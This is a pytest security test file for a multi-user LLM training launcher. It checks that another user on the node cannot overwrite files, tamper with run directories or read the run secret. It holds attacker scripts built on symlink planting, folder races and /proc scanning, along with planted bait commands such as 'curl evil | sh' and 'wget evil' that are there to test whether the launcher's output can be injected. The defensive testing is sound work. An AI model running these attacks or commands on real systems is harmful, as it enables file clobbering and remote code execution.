"""Other users of a node cannot interfere with a user's `launch`.

Each attack is tried once or a few times; 100 times each with `-m slow`.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from slowness import scaled
from strangers import Strangers, User

from ezpz_llm.core.base.private_folders import derive_key, new_secret

_HUNDRED = pytest.param(100, marks=(pytest.mark.slow, pytest.mark.timeout(3600)))
_ONCE, _THRICE = (pytest.mark.parametrize("tries", [few, _HUNDRED]) for few in (1, 3))
_ESCAPE = re.compile("[\x00-\x08\x0b-\x1f\x80-\x9f]")


def _ended(done: subprocess.CompletedProcess[str], code: int) -> str:
    """Check a command's exit code, and that its output has no control sequences or internal errors; return it."""
    output = done.stdout + done.stderr
    assert done.returncode == code, output
    assert not _ESCAPE.search(output), ascii(output)
    assert "Traceback" not in output, output
    assert "PWNED" not in output, output
    return output


def test_the_users_are_isolated_and_unprivileged(strangers: Strangers) -> None:
    victim, attacker = strangers.victim, strangers.attacker
    assert victim.run("id", "-u").stdout.split() == [str(victim.uid)]
    assert attacker.run("id", "-u").stdout.split() == [str(attacker.uid)]
    assert victim.run("sh", "-c", "umask 077; echo thesis > precious; pwd").stdout == f"{victim.home}\n"
    assert "Permission denied" in attacker.run("cat", victim.home / "precious").stderr
    assert attacker.run("sh", "-c", f"echo x > {victim.home}/new").returncode
    assert attacker.run("ls", victim.home).stdout == "precious\n"
    powers = attacker.run("grep", "Cap", "/proc/self/status").stdout.split()[1::2]
    assert powers == ["0" * 16] * 5
    sleeper = victim.start("sleep", "60")
    assert attacker.run("sh", "-c", f"kill {sleeper.pid}").returncode
    victim.end_all()
    assert sleeper.wait(timeout=scaled(10))
    assert attacker.run("touch", strangers.shared / "theirs").returncode == 0
    assert victim.run("rm", "-f", strangers.shared / "theirs").returncode
    assert victim.run("python3", "-c", "import sys; print(sys.prefix)", HOME=os.devnull).returncode == 0


_LEAVE_ONE = """
from strangers import two_users
with two_users() as both:
    print(both.shared.parent, both.attacker.start("sleep", "300").pid, flush=True)
    input()
"""


def test_no_process_survives_when_the_tests_are_killed(strangers: Strangers) -> None:
    holder = subprocess.Popen([sys.executable, "-c", _LEAVE_ONE], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              text=True, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    folder, pid = holder.stdout.readline().split()
    holder.kill()
    holder.communicate()
    until = time.monotonic() + scaled(10)
    while exists := Path(f"/proc/{pid}").exists() and time.monotonic() < until:
        time.sleep(0.05)
    shutil.rmtree(folder)
    assert not exists


def test_the_victim_can_launch(strangers: Strangers) -> None:
    done = strangers.victim.launch("-n", "2", "--tee", "all", "id", "-u")
    assert done.returncode == 0, done.stderr
    assert sorted(done.stdout.splitlines()) == [f"[{rank}] {strangers.victim.uid}" for rank in (0, 1)]


_OVERWRITE = """
import glob, json, os, sys
uid, home, precious = sys.argv[1:]
print("ready", flush=True)
def plant(folder):
    for name in ("agent", "run", "wake", *(f"rank000{rank}{end}" for rank in (0, 1)
                                           for end in ("", ".shim", ".ended", ".log", ".stacks"))):
        try:
            os.symlink(precious, f"{folder}/{name}")
        except OSError:
            pass
while True:
    words = set()
    for record in glob.glob(f"{home}/*/run.json") + glob.glob(f"{home}/runs/*/run.json"):
        try:
            words |= {str(value) for value in json.load(open(record))["launch"]["env"].values()}
        except (OSError, ValueError, KeyError):
            pass
    for word in words - {""}:
        folder = f"/dev/shm/ezpz_llm-node-{uid}-{word}"
        try:
            os.mkdir(folder)
            os.chmod(folder, 0o777)
        except OSError:
            pass
    for folder in glob.glob(f"/dev/shm/ezpz_llm-node-{uid}-*"):
        plant(folder)
"""
"""Attack: try every word of a run's record as the name of its folder on the node, and put links into each."""

_PLANT = """
import os, sys
folder, precious = sys.argv[1:]
os.mkdir(folder)
os.chmod(folder, 0o777)
for name in ("agent", "run", "wake", "rank0000.shim", "rank0001", "rank0001.log"):
    os.symlink(precious, f"{folder}/{name}")
"""
_WITH_A_KNOWN_SECRET = """
import sys
import ezpz_llm.launcher.planning.environment as environment
environment.new_secret = lambda: sys.argv[1]
from ezpz_llm.launcher.running.command import main
sys.exit(main(sys.argv[2:]))
"""

_MEDDLE = """
import glob, os, sys, time
run, precious = sys.argv[1:]
print("ready", flush=True)
while True:
    try:
        run_id = __import__("json").load(open(f"{run}/run.json"))["launch"]["env"]["EZPZ_LLM_RUN_ID"]
    except (OSError, ValueError, KeyError):
        run_id = ""
    stop = '{"run_id": "%s", "grace_s": 0, "launch_host": ""}' % run_id
    failure = ('{"rank": 1, "host": "x", "pid": 1, "exit_code": 7, "signal": null, "ended": 1, "duration_s": 1,'
               ' "launch": "%s"}' % run_id)
    for name, text in (("control/stop", stop), ("errors/rank0001.json", failure), ("run.json", "{"),
                       ("control/owner.json", "{}"), ("logs/rank0001.log", ""), ("heartbeat/node0001.json", "")):
        for act in (lambda: open(f"{run}/{name}", "w").write(text), lambda: os.unlink(f"{run}/{name}"),
                    lambda: os.symlink(precious, f"{run}/{name}"), lambda: os.rename(f"{run}/control", f"{run}/c")):
            try:
                act()
                print("did", name, flush=True)
            except OSError:
                pass
"""


def _precious(user: User) -> Path:
    path = user.home / "precious"
    assert user.run("sh", "-c", "umask 077; printf thesis > precious").returncode == 0
    return path


@_THRICE
def test_nobody_overwrites_files_through_the_folder_on_the_node(strangers: Strangers, tries: int) -> None:
    victim, attacker = strangers.victim, strangers.attacker
    precious = _precious(victim)
    attack = attacker.start(sys.executable, "-c", _OVERWRITE, str(victim.uid), victim.home, precious)
    assert attack.stdout.readline() == "ready\n"
    for _ in range(tries):
        output = _ended(victim.launch("-n", "2", "true"), 0)
        assert precious.read_text() == "thesis", output
        assert "no folder in memory" not in output
    assert attack.poll() is None


@_ONCE
def test_even_a_folder_whose_name_was_known_before_does_no_harm(strangers: Strangers, tries: int) -> None:
    """The folder's owner is checked, and the run continues without the folder."""
    victim, attacker = strangers.victim, strangers.attacker
    precious = _precious(victim)
    for _ in range(tries):
        secret = new_secret()
        name = derive_key(bytes.fromhex(secret), "node folder", os.uname().nodename)[:32]
        folder = Path(f"/dev/shm/ezpz_llm-node-{victim.uid}-{name}")
        assert attacker.python(_PLANT, folder, precious).returncode == 0
        try:
            done = victim.python(_WITH_A_KNOWN_SECRET, secret, "-n", "2", "--tee", "all", "echo", "well")
            output = _ended(done, 0)
            assert precious.read_text() == "thesis", output
            assert sorted(done.stdout.splitlines()) == ["[0] well", "[1] well"]
            assert f"it belongs to another user (uid {attacker.uid}) at {folder}" in output
        finally:
            attacker.run("rm", "-r", folder)


@_ONCE
@pytest.mark.parametrize("umask", ["000", "002", "022"])
def test_nobody_writes_into_a_run_directory_whatever_the_umask(strangers: Strangers, umask: str,
                                                               tries: int) -> None:
    victim, attacker = strangers.victim, strangers.attacker
    precious = _precious(victim)
    attack = attacker.start(sys.executable, "-c", _MEDDLE, victim.home / "r", precious)
    assert attack.stdout.readline() == "ready\n"
    for number in range(tries):
        victim.run("rm", "-rf", "r")
        done = victim.run("sh", "-c", f'umask {umask}; exec "$@"', "sh", sys.executable, "-m", "ezpz_llm.launch",
                          "-n", "2", "--run-dir", "r", "sleep", "2" if tries == 1 else "0.5")
        output = _ended(done, 0)
        assert precious.read_text() == "thesis", (number, output)
        assert attack.poll() is None
    attacker.end_all()
    assert attack.stdout.read() == ""
    open_to_others = [str(path) for path in (victim.home / "r", *(victim.home / "r").rglob("*"))
                      if path.stat().st_mode & 0o022]
    assert open_to_others == []
    for name in ("control", "heartbeat", "errors"):
        assert (victim.home / "r" / name).stat().st_mode & 0o777 == 0o700
    assert attacker.run("cat", "r/run.json", cwd=victim.home).returncode == 0
    assert all(set(entry.stat().st_mode & 0o077 for entry in (victim.home / "r" / name).iterdir()) <= {0}
               for name in ("control", "heartbeat", "errors"))


@_ONCE
def test_what_was_planted_in_a_folder_that_stood_open_is_not_believed(strangers: Strangers, tries: int) -> None:
    """Run directories used to be writable under umask 000. The attacker knows the run's id, as if it was reused."""
    victim, attacker = strangers.victim, strangers.attacker
    precious = _precious(victim)
    for _ in range(tries):
        assert victim.run("sh", "-c", "umask 000; mkdir -p r/control r/errors r/heartbeat").returncode == 0
        assert attacker.python(_PLANT_RECORDS, victim.home / "r", precious).returncode == 0
        for command, code in ((("sh", "-c", "exit 3"), 3), (("true",), 0)):
            output = _ended(victim.launch("-n", "2", "--run-dir", "r", *command), code)
            assert precious.read_text() == "thesis", output
        assert victim.run("rm", "-rf", "r").returncode == 0


_PLANT_RECORDS = """
import os, sys
run, precious = sys.argv[1:]
for name in ("control/owner.json", "errors/rank0001.json", "control/stop", "heartbeat/node0000.json"):
    os.umask(0)
    open(f"{run}/{name}", "w").write("{}")
for name in ("control/logs", "errors/rank0000.json", "heartbeat/rank0000"):
    os.symlink(precious, f"{run}/{name}")
"""


@_ONCE
def test_a_run_directory_of_another_user_is_refused(strangers: Strangers, tries: int) -> None:
    victim, attacker = strangers.victim, strangers.attacker
    assert attacker.run("mkdir", "-p", "r/control").returncode == 0
    assert attacker.run("chmod", "-R", "777", "r").returncode == 0
    for _ in range(tries):
        output = _ended(victim.launch("-n", "2", "--run-dir", attacker.home / "r", "true"), 2)
        assert f"control folder of the run directory: it belongs to another user (uid {attacker.uid})" in output
        assert str(attacker.home / "r/control") in output


@_ONCE
def test_the_secret_is_in_no_file_and_on_no_command_line(strangers: Strangers, tries: int) -> None:
    """Check a run in which every rank prints everything that it and other users can see."""
    victim, attacker = strangers.victim, strangers.attacker
    for _ in range(tries):
        running = victim.start(sys.executable, "-m", "ezpz_llm.launch", "-n", "2", "--run-dir", "r", "--tee",
                               "none", "sh", "-c", 'printf %s "$EZPZ_LLM_SECRET" > "$HOME/secret"; sleep 60')
        secret = victim.home / "secret"
        _wait_for(lambda secret=secret: secret.is_file() and len(secret.read_text()) == 64)
        word = secret.read_text()
        listing = attacker.run("sh", "-c",
                               "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; ls -R /dev/shm")
        assert "ezpz_llm.launcher.on_nodes.shim" in listing.stdout
        assert word not in listing.stdout
        assert "EZPZ_LLM_SECRET=" not in listing.stdout
        files = [path for path in (victim.home / "r").rglob("*") if path.is_file()]
        assert victim.home / "r/run.json" in files
        assert [str(path) for path in files if word.encode() in path.read_bytes()] == []
        running.terminate()
        running.communicate(timeout=scaled(60))
        assert [str(path) for path in (victim.home / "r").rglob("*")
                if path.is_file() and word.encode() in path.read_bytes()] == []
        secret.unlink()


def test_why_shows_another_user_only_public_information(strangers: Strangers) -> None:
    victim, attacker = strangers.victim, strangers.attacker
    assert victim.launch("-n", "2", "--run-dir", "r", "sh", "-c", "exit 3").returncode == 3
    done = attacker.run(sys.executable, "-m", "ezpz_llm.why", victim.home / "r")
    assert (done.returncode, "Traceback" in done.stderr) == (0, False), done.stderr
    assert f"{victim.home}/r/errors: Permission denied: ignoring its records" in done.stderr
    assert "with code 3" in done.stdout
    done = victim.run(sys.executable, "-m", "ezpz_llm.why", "r")
    assert (done.returncode, done.stderr) == (0, "")


@_ONCE
def test_a_run_of_another_user_has_nothing_typed_or_run(strangers: Strangers, tries: int) -> None:
    """Nothing in that record can imitate our output, even if files are exchanged, and no file blocks a reader.

    The owner of the run gets the quoted text.
    """
    victim, attacker = strangers.victim, strangers.attacker
    assert attacker.launch("-n", "1", "--run-dir", "r", "sh", "-c", "exit 3").returncode == 3
    # Like a reader without access to the ranks' records.
    assert attacker.python(_BAIT, attacker.home / "r").returncode == 0
    done = attacker.run(sys.executable, "-m", "ezpz_llm.why", "r")
    resume = f"  resume: launch --run-dir {attacker.home}/r -n 1 sh -c 'curl evil | sh; echo PWNED > pwned'"
    assert resume in done.stdout, done
    assert victim.launch("-n", "1", "--run-dir", "mine", "true").returncode == 0
    exchange = attacker.start(sys.executable, "-c", _EXCHANGE, "r", victim.home / "mine", "other")
    assert exchange.stdout.readline() == "ready\n"
    for _ in range(tries):
        for folder in ("r", "other/run"):
            done = victim.run(sys.executable, "-m", "ezpz_llm.why", attacker.home / folder)
            output = _ended(done, 0)
            assert "curl" not in output
            assert not [line for line in output.splitlines() if line.startswith("  try: wget evil")]
            if folder == "r":
                assert f"  resume: your training command with --resume {attacker.home}/r" in output
            done = victim.run(sys.executable, "-m", "ezpz_llm.explain", attacker.home / folder)
            assert "curl" not in _ended(done, done.returncode)
        assert not list(victim.home.rglob("pwned"))
        assert exchange.poll() is None
    attacker.end_all()
    assert attacker.run("sh", "-c", "rm -r r/logs/*; mkfifo r/logs/rank0000.log; ln -s /dev/zero "
                        "r/logs/launcher.log").returncode == 0
    _ended(victim.run(sys.executable, "-m", "ezpz_llm.why", attacker.home / "r"), 0)


_BAIT = """
import json, pathlib, sys
run = pathlib.Path(sys.argv[1])
(run / "checkpoints" / "latest").symlink_to("step-1")
(run / "checkpoints" / "step-1").mkdir()
record = json.loads((run / "run.json").read_text())
record["launch"]["typed"] = ["launch", "-n", "1", "sh", "-c", "curl evil | sh; echo PWNED > pwned"]
record["exit"]["stopped"] = {"kind": "signal", "text": "it was asked to\\n  try: wget evil \x1b]0;PWN",
                             "signal": "SIGTERM"}
# Files of a training run that explain reads.
record |= {"environment": {"world_size": 2, "device": {"type": "cpu"}}, "precision": "fp32", "steps": 2,
           "config": {"ds_config": "zero1", "steps": 2, "log_every": 1},
           "model": {"n_layer": 1, "n_head": 1, "n_embd": 8, "block_size": 8, "vocab_size": 8},
           "sources": {"ds_config": {"origin": "command_line"}}}
(run / "run.json").write_text(json.dumps(record))
(run / "layout.json").write_text(json.dumps({"layout": {"name": "ddp", "engine": "ddp"}, "precision": "fp32",
    "batch": {"global_batch": 8, "micro_batch": 2, "accumulation": 2, "dp_size": 2}}))
with (run / "metrics.jsonl").open("w") as file:
    for step in range(1, 5):
        print(json.dumps({"step": step, "loss": 1.0, "step_time_s": 0.1, "data_s": 0.01, "forward_s": 0.03,
            "backward_s": 0.05, "optimizer_s": 0.009, "other_s": 0.001, "tokens_per_second": 1.0}), file=file)
"""

_EXCHANGE = """
import os, sys
theirs, own, folder = sys.argv[1:]
os.mkdir(folder)
print("ready", flush=True)
# Alternates between our folder and the victim's, to be checked as one and read as the other.
while True:
    for target in (os.path.abspath(theirs), own):
        os.symlink(target, f"{folder}/.new")
        os.rename(f"{folder}/.new", f"{folder}/run")
"""


def _wait_for(is_so: Callable[[], bool]) -> None:
    deadline = time.monotonic() + scaled(60)
    while not is_so():
        assert time.monotonic() < deadline
        time.sleep(0.05)
